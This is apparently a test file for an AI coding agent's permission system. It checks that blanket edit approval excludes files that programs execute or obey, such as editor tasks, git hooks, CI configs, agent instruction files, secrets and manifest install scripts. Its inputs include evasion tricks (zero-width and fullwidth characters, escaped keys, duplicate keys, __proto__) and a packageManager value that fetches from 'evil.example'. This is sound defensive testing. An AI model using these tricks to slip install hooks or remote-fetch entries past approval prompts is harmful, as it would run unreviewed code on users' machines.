import assert from "node:assert/strict";
import { shownAsk } from "../../src/agent/approval/ask.ts";
import { namesOfRoot, riskOf } from "../../src/agent/approval/files/risk.ts";
import { type Rule, verdict } from "../../src/agent/approval/rules.ts";
import { PendingApprovals } from "../../src/chat/session/pendingApprovals.ts";

/** Files that programs run or obey. Each is always asked about, whatever was allowed for good. */
const obeyed: Record<string, readonly string[]> = {
  editor: [
    ".vscode/launch.json",
    ".vscode/tasks.json",
    "packages/a/.vscode/settings.json",
    ".VSCODE/extensions.json",
    ".vscode./tasks.json",
    ".vscode /tasks.json",
    ".vs\u200bcode/tasks.json",
    ".vscode\\tasks.json",
    ".ｖscode/tasks.json",
    "my.code-workspace",
    "deep/down/My.Code-Workspace",
    ".idea/workspace.xml",
    ".zed/tasks.json",
  ],
  repository: [
    ".gitattributes",
    ".gitmodules",
    ".gitignore",
    ".gitconfig",
    "sub/.GITMODULES",
    ".hg/hgrc",
    ".hgignore",
    ".husky/pre-commit",
    ".husky/_/husky.sh",
    ".githooks/commit-msg",
    "hooks/pre-push",
    "tools/hooks/deploy",
    "scripts/pre-commit",
    "scripts/post-checkout.sh",
    "lefthook.yml",
    ".pre-commit-config.yaml",
  ],
  container: [".devcontainer/devcontainer.json", ".devcontainer/post.sh", "devcontainer.json", ".devcontainer.json"],
  ci: [
    ".github/workflows/ci.yml",
    ".GitHub/actions/a/action.yml",
    ".gitlab-ci.yml",
    ".gitlab/ci/build.yml",
    ".circleci/config.yml",
    "azure-pipelines.yml",
    "azure-pipelines.release.yaml",
    "Jenkinsfile",
    "Jenkinsfile.release",
    "bitbucket-pipelines.yml",
    ".travis.yml",
    ".drone.yml",
    "appveyor.yml",
    "cloudbuild.yaml",
    "buildspec.yml",
  ],
  environment: [".env", ".envrc", ".env.local", "apps/web/.env.production"],
  agent: [
    "AGENTS.md",
    "agents.md",
    "docs/AGENTS.md",
    "CLAUDE.md",
    "CLAUDE.local.md",
    "GEMINI.md",
    ".cursorrules",
    ".cursor/rules/a.mdc",
    ".github/copilot-instructions.md",
    "style.instructions.md",
    "review.prompt.md",
    "skills/test/SKILL.md",
    ".mcp.json",
    "mcp.json",
    "mcp_config.json",
    "opencode.json",
    "WARP.md",
  ],
  program: [
    "sitecustomize.py",
    "lib/usercustomize.py",
    "site-packages/evil.pth",
    "build.rs",
    "crates/a/build.rs",
    "Directory.Build.targets",
    "Directory.Build.props",
    "package-lock.json",
    "web/yarn.lock",
    "pnpm-lock.yaml",
    "Cargo.lock",
    "gradle/wrapper/gradle-wrapper.properties",
    "eslint.config.mjs",
    "web/ESLint.config.ts",
    "prettier.config.cjs",
    "tailwind.config.js",
    "lint-staged.config.js",
    "pnpmfile.cjs",
    "CMakeLists.txt",
    "cmake/flags.cmake",
    "app/App.csproj",
    "Package.swift",
    "mix.exs",
    "build.zig",
    "Documents/PowerShell/Microsoft.PowerShell_profile.ps1",
    "Library/LaunchAgents/a.plist",
  ],
  secret: ["id_rsa", "credentials.json", "tls/server.pem", "prod.env", "config/secrets.yml"],
  hidden: [".npmrc", ".bashrc", ".config/app.toml", "a/.hidden/b.ts", ".eslintrc.js", ".yarn/releases/yarn.cjs"],
};
/** Plain files, near in name. */
const plain = [
  "src/a.ts",
  "src/hooks/useThing.ts",
  "src/hooks/index.tsx",
  "src/vscode/api.ts",
  "docs/git/hooks.md",
  "environment.ts",
  "env.ts",
  "src/agent/agent.ts",
  "agents/readme.md",
  "ci/readme.md",
  "test/pre/commit.ts",
  "package.json",
  "tsconfig.json",
  "Makefile",
  "pyproject.toml",
  "Cargo.toml",
  "conftest.py",
  "vite.config.ts",
  "src/build.ts",
  "src/eslint.config.test.ts",
  "src/eslint.ts",
  "tailwind.css",
  "app.config.ts",
  "src/package.swift.md",
  "x.sln",
  "locks.ts",
  "update.ts",
  "scripts/update.js",
  "update.py",
  "src/commit-list.js",
  "tools/commit-history.py",
  "prepare-commit-data.sh",
  "a..b/c.ts",
  "../x.ts",
  "./src/b.ts",
];
const everything: Rule[] = [
  { kind: "edit", tool: "create_file" },
  { kind: "edit", tool: "edit_file" },
];
const call = (path: string, tool = "create_file") =>
  ({ tool, ask: { kind: "edit", change: { path, before: undefined, after: "{}" } } }) as const;

/** Changes of a manifest: what stood there, what will, and whether the user is asked. */
const manifests: Record<string, [path: string, before: string | undefined, after: string, asks: boolean]> = {
  "a dependency": ["package.json", '{"dependencies":{}}', '{"dependencies":{"a":"1"}}', false],
  "a script that is run by name": ["package.json", "{}", '{"scripts":{"build":"tsc"}}', false],
  "what runs after an install": ["package.json", "{}", '{"scripts":{"postinstall":"node x"}}', true],
  "what runs after an install, in a part": ["a/package.json", "{}", '{"scripts":{"prepare":"node x"}}', true],
  "what runs then, changed": ["package.json", '{"scripts":{"install":"a"}}', '{"scripts":{"install":"b"}}', true],
  "what runs then, as it was": [
    "package.json",
    '{"scripts":{"install":"a"}}',
    '{"version":"2","scripts":{"install":"a"}}',
    false,
  ],
  "what runs then, written otherwise": ["package.json", "{}", '{"scripts":{"post\\u0069nstall":"node x"}}', true],
  "what runs then, given twice": ["package.json", "{}", '{"scripts":{},"scripts":{"postinstall":"x"}}', true],
  "a new file that runs then": ["package.json", undefined, '{"scripts":{"preinstall":"x"}}', true],
  "what runs before a commit": ["package.json", "{}", '{"lint-staged":{"*":"node x"}}', true],
  "which package manager runs": ["package.json", "{}", '{"packageManager":"yarn@https://evil.example/y.js"}', true],
  "a text that is no JSON": ["package.json", "{}", '\ufeff{"scripts":{"postinstall":"x"}}', true],
  "a name in upper case": ["Package.JSON", "{}", '{"scripts":{"postinstall":"x"}}', true],
  "the prototype": ["package.json", "{}", '{"__proto__":{"scripts":{"postinstall":"x"}}}', false],
  "what a language server builds first": ["Cargo.toml", "[package]\n", '[package]\nbuild = "src/x.rs"\n', true],
  "what it builds first, in a table": ["a/cargo.toml", "", 'package = { "b\\u0075ild" = "x.rs" }\n', true],
  "a crate that runs while others are built": ["Cargo.toml", "[lib]\n", "[lib]\nproc-macro = true\n", true],
  "a new crate that builds something first": ["Cargo.toml", undefined, '[build-dependencies]\ncc = "1"\n', true],
  "a dependency of Cargo": ["Cargo.toml", '[package]\nbuild = "b.rs"\n', '[package]\nbuild = "b.rs"\na = "1"\n', false],
  "scripts of Composer": ["composer.json", "{}", '{"scripts":{"post-install-cmd":"x"}}', true],
};

/** Folders of a workspace that stand themselves where programs obey what is in them. */
const roots: Record<string, [root: string, path: string, asks: boolean]> = {
  "the editor's": ["/home/u/p/.vscode", "tasks.json", true],
  "of workflows": ["/home/u/p/.github/workflows", "ci.yml", true],
  "of hooks": ["/home/u/p/.husky", "pre-commit", true],
  "of a worktree": ["/home/u/p/.claude/worktrees/one", "src/a.ts", false],
  "below a hidden one": ["/home/u/.worktrees/one", "src/a.ts", false],
  "of dotfiles": ["/home/u/.dotfiles", "zshrc", true],
  "the root": ["/", "a.ts", false],
};

describe("standing consent", () => {
  for (const [risk, paths] of Object.entries(obeyed))
    for (const path of paths)
      it(`does not cover ${JSON.stringify(path)}, and its card is marked`, () => {
        assert.equal(verdict(call(path), everything).decision, "ask");
        const shown = shownAsk(call(path).ask);
        assert.ok(shown.kind === "edit" && shown.risk !== undefined);
        assert.ok(shown.risk === risk || path.startsWith(".git"), `${shown.risk}`);
      });
  for (const path of plain)
    it(`covers ${path}`, () => {
      assert.equal(verdict(call(path), everything).decision, "allow");
      assert.equal(riskOf(path), undefined);
    });
  for (const [what, [path, before, after, asks]] of Object.entries(manifests))
    it(`${asks ? "does not cover" : "covers"} in a manifest ${what}`, () => {
      const ask = { kind: "edit", change: { path, before, after } } as const;
      assert.equal(verdict({ tool: "edit_file", ask }, everything).decision, asks ? "ask" : "allow");
    });
  for (const [what, [root, path, asks]] of Object.entries(roots))
    it(`${asks ? "does not cover" : "covers"} a file in a folder of the workspace: ${what}`, () => {
      const judged = [...namesOfRoot(root), path].join("/");
      const ask = { kind: "edit", change: { path, judged, before: undefined, after: "" } } as const;
      assert.equal(verdict({ tool: "create_file", ask }, everything).decision, asks ? "ask" : "allow");
    });
  it("is not taken from an answer to such a card, whatever scope it names", async () => {
    for (const scope of ["chat", "workspace"] as const) {
      const kept: Rule[] = [];
      const approvals = new PendingApprovals(
        { rules: () => kept, add: (rule) => void kept.push(rule) },
        () => undefined,
      );
      const { nonce, answer } = approvals.request(call(".vscode/tasks.json"), new AbortController().signal);
      approvals.settle(nonce, { type: "allowed", scope });
      assert.deepEqual(await answer, { type: "allowed", scope: "once" });
      assert.deepEqual([kept, approvals.chatRules], [[], []]);
    }
  });
  it("of a chat can be taken back, one or all", async () => {
    const approvals = new PendingApprovals({ rules: () => [], add: () => undefined }, () => undefined);
    for (const tool of ["create_file", "edit_file"]) {
      const { nonce, answer } = approvals.request(call("a.ts", tool), new AbortController().signal);
      approvals.settle(nonce, { type: "allowed", scope: "chat" });
      await answer;
    }
    approvals.revoke({ kind: "edit", tool: "create_file" });
    assert.deepEqual(approvals.chatRules, [{ kind: "edit", tool: "edit_file" }]);
    assert.equal((await approvals.verdict(call("b.ts"))).decision, "ask");
    approvals.revoke();
    assert.equal((await approvals.verdict(call("b.ts", "edit_file"))).decision, "ask");
  });
  it("is asked for each request by its own nonce, also where a call's id repeats", async () => {
    const approvals = new PendingApprovals({ rules: () => [], add: () => undefined }, () => undefined);
    const first = approvals.request(call("a.ts"), new AbortController().signal);
    approvals.settle(first.nonce, { type: "allowed", scope: "once" });
    const second = approvals.request(call("a.ts"), new AbortController().signal);
    approvals.settle(first.nonce, { type: "allowed", scope: "once" });
    assert.equal(await Promise.race([second.answer.then(({ type }) => type), Promise.resolve("waits")]), "waits");
  });
});
